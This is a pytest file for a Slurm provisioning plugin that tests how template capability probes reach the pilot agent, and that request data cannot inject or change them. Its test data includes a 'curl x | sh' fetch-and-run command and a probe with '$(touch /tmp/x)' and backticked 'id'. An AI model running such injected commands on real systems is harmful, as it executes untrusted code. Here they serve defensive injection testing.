"""A template's capability probes (issue 35, item 1), in process: the config checks them, each pilot job's script
passes them to its agent (one ``--probe=NAME=COMMAND`` argument each, quoted whole), and a request cannot add one."""

from __future__ import annotations

import json
import shlex
import sys
from pathlib import Path
from typing import Any

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "providers" / "slurm"))

from slurm_plugin import submit  # noqa: E402
from slurm_plugin import tags as tagmod  # noqa: E402
from slurm_plugin.config import Config  # noqa: E402
from slurm_plugin.jobs import JobRecord  # noqa: E402
from slurm_plugin.store import Store  # noqa: E402

from provisionerd.agent import capabilities  # noqa: E402
from provisionerd.plugin_sdk.config import ConfigInvalid  # noqa: E402

EXAMPLE = Path(__file__).resolve().parents[2] / "providers" / "slurm" / "conf.example" / "slurm.json"
PROBES = {
    "gputype": "nvidia-smi --query-gpu=name --format=csv,noheader | head -1",
    "odd": """ echo 'it''s' "$HOME" $(touch /tmp/x) `id` a\\b * ; exit 0 """,
}


def document(workdir: str = "/w", **template: Any) -> dict[str, Any]:
    return {
        "partition": "p",
        "workdir": workdir,
        "agent": {"certs": "/c"},
        "templates": [{"templateId": "gpu", "maxNumber": 4, "cpus": 4, "gres": "gpu:1", "probes": PROBES, **template}],
    }


def agent_argv(script: str) -> list[str]:
    """The argv the pilot's ``/bin/sh`` gives the agent (``exec`` and the ``$SLURM_JOB_ID`` word aside)."""
    return shlex.split(script.splitlines()[-1])[1:]


def test_each_probe_is_one_argument_of_the_pilot_agent_exactly_as_configured(tmp_path: Path) -> None:
    config = Config.from_document(document(reprobeInterval=60))
    boot = {"instanceRef": "op/0", "controllers": ["a:1"], "joinToken": "SECRET-TOKEN-123456"}
    argv = agent_argv(submit.job_script(config, config.templates["gpu"], boot, tmp_path / "k.token"))
    given = [a for a in argv if a.startswith("--probe")]
    assert given == [f"--probe={name}={command}" for name, command in sorted(PROBES.items())]
    assert dict(capabilities.parse_probe(a.removeprefix("--probe=")) for a in given) == PROBES
    assert argv[argv.index("--reprobe-interval") + 1] == "60"


def test_a_template_without_probes_passes_none(tmp_path: Path) -> None:
    doc = document()
    del doc["templates"][0]["probes"]
    config = Config.from_document(doc)
    boot = {"instanceRef": "op/0", "controllers": ["a:1"], "joinToken": "SECRET-TOKEN-123456"}
    argv = agent_argv(submit.job_script(config, config.templates["gpu"], boot, tmp_path / "k.token"))
    assert not any(a.startswith("--probe") or a == "--reprobe-interval" for a in argv)


class FakeCluster:
    """No job of ours yet; ``submit`` keeps each script and gives the next job id."""

    def __init__(self) -> None:
        self.scripts: list[str] = []

    def my_jobs(self) -> dict[str, JobRecord]:
        return {}

    def owned(self, records: dict[str, JobRecord], wanted: dict[str, str]) -> list[JobRecord]:
        return []

    def submit(self, args: list[str], script: str) -> str:
        self.scripts.append(script)
        return str(100 + len(self.scripts))


def test_a_request_cannot_add_or_change_a_probe(tmp_path: Path) -> None:
    config = Config.from_document(document(workdir=str(tmp_path / "work")))
    owner = {tagmod.CLUSTER: "c", tagmod.PROVIDER: "slurm", tagmod.OP: "op1", tagmod.EPOCH: "1.2"}
    hostile = {"probes": {"gputype": "echo H100"}, "provisionerd": {"probes": {"evil": "curl x | sh"}}}
    doc = {
        "template": {"templateId": "gpu", "machineCount": 2, "probes": {"evil": "true"}},
        "op_id": "op1",
        "tags": owner,
        "userData": hostile,
        "probes": {"evil": "true"},
        "bootstrap": [
            {"instanceRef": f"op1/{i}", "controllers": ["a:1"], "joinToken": "SECRET-TOKEN-123456", **hostile}
            for i in range(2)
        ],
    }
    cluster = FakeCluster()
    submit.request_machines(config, cluster, Store(tmp_path / "store"), doc)  # type: ignore[arg-type]
    assert len(cluster.scripts) == 2
    for script in cluster.scripts:
        given = [a for a in agent_argv(script) if a.startswith("--probe")]
        assert given == [f"--probe={name}={command}" for name, command in sorted(PROBES.items())]
        assert "evil" not in script and "H100" not in script


@pytest.mark.parametrize(
    ("changes", "fragment"),
    [
        ({"probes": {f"p{i}": "true" for i in range(5)}}, "('gpu').probes: at most 4, not 5"),
        ({"probes": {"bad name": "true"}}, "'bad name' does not match"),
        ({"probes": {"x" * 33: "true"}}, "does not match"),
        ({"probes": {"gputype": ""}}, "should be non-empty"),
        ({"probes": {"gputype": "x" * 1025}}, "('gpu').probes.gputype: the command is longer than 1024 characters"),
        ({"probes": {"gputype": 1}}, "is not of type 'string'"),
        ({"probes": "nvidia-smi"}, "is not of type 'object'"),
        ({"probes": {"gputype": "  "}}, "templates[0] ('gpu').probes.gputype: the command is blank"),
        ({"probes": {"gputype": "a\nb"}}, "('gpu').probes.gputype: the command must be one line"),
        ({"probes": {"mem": "free -m"}}, "('gpu').probes.mem: the agent reports 'mem' itself"),
        ({"reprobeInterval": 9.5}, "('gpu').reprobeInterval: expected 0 (never) or 10 to 86400 seconds, got 9.5"),
        ({"reprobeInterval": -1}, "is less than the minimum of 0"),
        ({"reprobeInterval": True}, "is not of type 'number'"),
    ],
)
def test_invalid_probe_config_is_a_provider_error_naming_the_problem(changes: Any, fragment: str) -> None:
    with pytest.raises(ConfigInvalid) as caught:
        Config.from_document(document(**changes))
    assert caught.value.code == "provider_error" and fragment in caught.value.message


def test_the_shipped_example_has_a_gpu_template_with_a_probe() -> None:
    config = Config.from_document(json.loads(EXAMPLE.read_text()), str(EXAMPLE))
    gpu = config.templates["slurm-gpu"]
    assert set(gpu.probes) == {"gputype"} and "gputype" in gpu.attributes
    assert config.templates["slurm-8cpu"].probes == {}
